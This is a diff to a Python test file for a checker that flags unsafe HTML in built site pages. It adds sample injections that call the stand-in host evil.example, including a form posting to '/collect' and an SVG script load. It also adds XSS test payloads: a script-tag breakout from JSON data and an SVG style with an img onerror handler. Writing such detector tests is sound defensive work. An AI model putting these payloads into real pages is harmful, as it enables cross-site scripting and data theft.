@@ -213,6 +213,7 @@ _INJECTED = {
     "style escape": "<style>body{background:u\\rl(https://evil.example/x.png)}</style>",
     "style attribute": '<div style="background:url(//evil.example/x.png)">x</div>',
     "form action": '<form action="https://evil.example/collect"><input name=q></form>',
+    "svg script": '<svg><script href="https://evil.example/x.js"></script></svg>',
 }
 
 
@@ -244,6 +245,8 @@ def test_a_theme_script_with_something_added_is_not_the_theme_script(material_si
     assert unsafe_built(page) == []
     assert unsafe_built(page.replace(scope, scope + ";alert(1)"))
     assert unsafe_built(page.replace('new URL(".",location)', 'new URL("."+alert(1)+"",location)'))
-    data = '<script id="__config" type="application/json">{"a": "<b onclick=x>"}</script>'
-    assert unsafe_built(data) == []  # data, not run, and not markup
-    assert unsafe_built(data.replace("<b onclick=x>", "</script><script>alert(1)</script>"))  # ends the data
+    data = '<script id="__config" type="application/json">{"a": "</b>"}</script>'
+    assert unsafe_built(data) == []  # data, not run
+    assert unsafe_built(data.replace("</b>", "</script><script>alert(1)</script>"))  # ends the data
+    # in an SVG, style and script content is markup: a tag in it is read (it would break out and run)
+    assert unsafe_built("<svg><style><img src=x onerror=alert(1)></style></svg>")
